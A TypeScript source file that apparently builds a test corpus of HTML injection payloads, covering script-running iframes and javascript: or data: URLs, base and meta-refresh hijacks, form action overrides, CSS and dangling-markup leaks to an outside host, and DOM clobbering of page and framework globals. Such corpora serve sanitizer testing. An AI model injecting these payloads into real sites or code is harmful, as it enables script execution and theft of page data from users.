import { type Recipes, spelled } from './vector.ts';

/** Elements that need no script to do harm: frames, forms, addresses, styles, names that shadow the page's own. */
export const markupVectors: Recipes = {
  'frame of a document text': ({ js }) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  'frame of escaped document text': ({ js }) =>
    `<iframe srcdoc="${spelled.decimal(`<script>parent.${js}</script>`)}"></iframe>`,
  'frame of a script address': ({ js }) => `<iframe src="javascript:parent.${js}"></iframe>`,
  'frame of data': ({ js }) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  'frame of data in base64': ({ js }) =>
    `<iframe src="data:text/html;base64,${spelled.base64(`<script>${js}</script>`)}"></iframe>`,
  'frame of another host': ({ host }) => `<iframe src=https://${host}/></iframe>`,
  'frame of a host that looks allowed': ({ host }) =>
    `<iframe src="https://www.google.com.${host}/maps?q=1,2"></iframe>`,
  'frame of a host in user words': ({ host }) =>
    `<iframe src="https://www.youtube-nocookie.com@${host}/embed/x"></iframe>`,
  'frame without protocol': ({ host }) => `<iframe src=//${host}></iframe>`,
  'old frame': ({ js }) => `<frameset><frame src="javascript:parent.${js}"></frameset>`,
  'fenced frame': ({ host }) =>
    `<fencedframe src="https://${host}/"></fencedframe><iframe src=//${host}></iframe>`,
  portal: ({ host, js }) => `<portal src="https://${host}/" onload=${js} onmouseover=${js}></portal>`,
  'object of data': ({ js }) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  'object of another host': ({ host }) => `<object data="https://${host}/a.swf"></object>`,
  'object parameter': ({ host }) =>
    `<object data=//${host}/><param name=src value="https://${host}/x"></object>`,
  'embed of a script address': ({ js, host }) => `<embed src="javascript:${js}"><embed src=//${host}/a>`,
  'embed of SVG data': ({ js }) =>
    `<embed src="data:image/svg+xml;base64,${spelled.base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}">`,
  applet: ({ host, js }) => `<applet code=a codebase=https://${host}/ onmouseover=${js}></applet>`,
  base: ({ host }) => `<base href=https://${host}/>`,
  'base with target': ({ host }) => `<base target=_top href="//${host}/">`,
  'base in capitals': ({ host }) => `<BASE HREF="https://${host}/">`,
  'meta refresh': ({ host }) => `<meta http-equiv=refresh content="0;url=https://${host}/">`,
  'meta refresh to data': ({ js }) =>
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  'meta refresh to a script': ({ js, mark }) =>
    `<meta name=${mark} http-equiv="refresh" content="0;url=javascript:${js}">`,
  'meta policy': ({ host }) =>
    `<meta http-equiv=Content-Security-Policy content="script-src https://${host}">`,
  'meta cookie': ({ mark }) => `<meta http-equiv=Set-Cookie content="a=${mark}">`,
  'meta referrer': ({ mark }) => `<meta name=referrer content=unsafe-url id=${mark}>`,
  'meta character set': ({ mark }) => `<meta charset=utf-7 id=${mark}>`,
  'form to another host': ({ host }) =>
    `<form action=https://${host}/><input name=q><button>x</button></form>`,
  'form of a script address': ({ js }) => `<form action="javascript:${js}"><button>x</button></form>`,
  'button with its own address': ({ js }) => `<form><button formaction="javascript:${js}">x</button></form>`,
  'input with its own address': ({ js }) => `<form><input type=submit formaction="javascript:${js}"></form>`,
  'image button': ({ host }) =>
    `<form><input type=image src=https://${host}/a.png formaction=//${host}/></form>`,
  'button of a form elsewhere': ({ host, mark }) =>
    `<button form=${mark} formaction=https://${host}/>x</button>`,
  'is index': ({ js, mark }) => `<isindex id=${mark} type=image src=1 onerror=${js}>`,
  'label of a field elsewhere': ({ mark }) => `<label for=${mark}>x</label><input id=${mark}>`,
  'style sheet of another host': ({ host }) => `<link rel=stylesheet href=https://${host}/a.css>`,
  'style sheet of data': ({ host }) =>
    `<link rel=stylesheet href="data:text/css,@import'https://${host}/a.css'">`,
  'style that imports': ({ host }) => `<style>@import "https://${host}/a.css";</style>`,
  'style with address': ({ host }) => `<style>body{background:url(https://${host}/a.png)}</style>`,
  'style that reads attributes': ({ host }) =>
    `<style>input{color:red}body:has(p){--a:url(https://${host}/b);background:var(--a)}</style>`,
  'style with escaped letters': ({ host }) => `<style>body{background:u\\72l(https://${host}/a.png)}</style>`,
  'style with a font': ({ host }) =>
    `<style>@font-face{font-family:x;src:url(https://${host}/a)}body{font-family:x}</style>`,
  'style over the whole page': ({ mark }) =>
    `<div id=${mark} style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>`,
  'style attribute with address': ({ host }) => `<p style="background:url(https://${host}/a.png)">x</p>`,
  'style attribute with image set': ({ host }) =>
    `<p style="background-image:image-set('https://${host}/a.png' 1x)">x</p>`,
  'style expression': ({ js, mark }) => `<p id=${mark} style="width:expression(${js})">x</p>`,
  'style binding': ({ host }) =>
    `<p style="-moz-binding:url(https://${host}/a.xml#x);background:url(//${host})">x</p>`,
  'image of another host': ({ host }) => `<img src=https://${host}/a.png>`,
  'image set of another host': ({ host }) => `<img srcset="https://${host}/a.png 1x">`,
  'picture of another host': ({ host }) =>
    `<picture><source srcset="https://${host}/a.png"><img src="https://${host}/b.png"></picture>`,
  'input image': ({ host }) => `<input type=image src=https://${host}/a.png>`,
  'background attribute': ({ host }) =>
    `<table background=https://${host}/a.png><td background=//${host}/b>x`,
  'body background': ({ host }) => `<body background=https://${host}/a.png>`,
  'video poster': ({ host }) => `<video poster=https://${host}/a.png src=https://${host}/a.mp4></video>`,
  track: ({ host }) => `<video src=//${host}/v><track default src=https://${host}/a.vtt></video>`,
  ping: ({ host }) => `<a href="https://a.example/" ping=https://${host}/>x</a>`,
  'attribution source': ({ host }) => `<img attributionsrc=https://${host}/ src=//${host}/a>`,
  'link preload': ({ host }) => `<link rel=preload as=script href=https://${host}/a.js>`,
  'link prefetch': ({ host }) => `<link rel=prefetch href=https://${host}/a>`,
  'link preconnect': ({ host }) => `<link rel=preconnect href=https://${host}/>`,
  'link icon': ({ host }) => `<link rel=icon href=https://${host}/a.ico>`,
  'link manifest': ({ host }) => `<link rel=manifest href=https://${host}/a.json>`,
  'link module preload': ({ host }) => `<link rel=modulepreload href=https://${host}/a.js>`,
  'speculation rules': ({ host }) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://${host}/"]}]}</script>`,
  'import map': ({ host }) => `<script type=importmap>{"imports":{"x":"https://${host}/a.js"}}</script>`,
  'dangling image': ({ host }) => `<img src='https://${host}/?`,
  'dangling form field': ({ host }) => `<form action=https://${host}/><button>x</button><textarea name=a>`,
  'dangling base target': ({ mark }) => `<base target='${mark}`,
  'clobbered function': ({ mark }) => `<img id=${mark} name=getElementById src="data:,">`,
  'clobbered location': ({ mark }) => `<form id=${mark} name=location><input name=href></form>`,
  'clobbered data of the framework': ({ mark }) =>
    `<a id=__next_f name=${mark}></a><a id=__next_f name=push></a>`,
  'clobbered settings': ({ mark }) => `<a id=${mark} href=x></a><a id=__NEXT_DATA__ href="data:${mark}"></a>`,
  'clobbered body': ({ mark }) => `<img name=body id=${mark}><form name=body></form>`,
  'clobbered current script': ({ mark }) => `<img name=currentScript id=${mark} src="data:,">`,
  'clobbered elements of a form': ({ mark }) =>
    `<form id=${mark}><input name=attributes><input name=nodeName><input name=parentNode></form>`,
  'class of the site': ({ mark }) => `<p class="visually-hidden ${mark}">x</p>`,
  'data attribute': ({ mark }) => `<p data-xss="${mark}" data-position=1>x</p>`,
  'aria attribute': ({ mark }) => `<p aria-label="${mark}" role=alert>x</p>`,
  'slot and part': ({ mark }) => `<p slot=${mark} part=x is=x-y>x</p>`,
  'access key': ({ mark, js }) => `<p accesskey=x id=${mark} onclick=${js}>x</p>`,
  'item properties': ({ mark }) =>
    `<div itemscope itemtype="https://schema.org/Offer" itemid=${mark}>x</div>`,
};
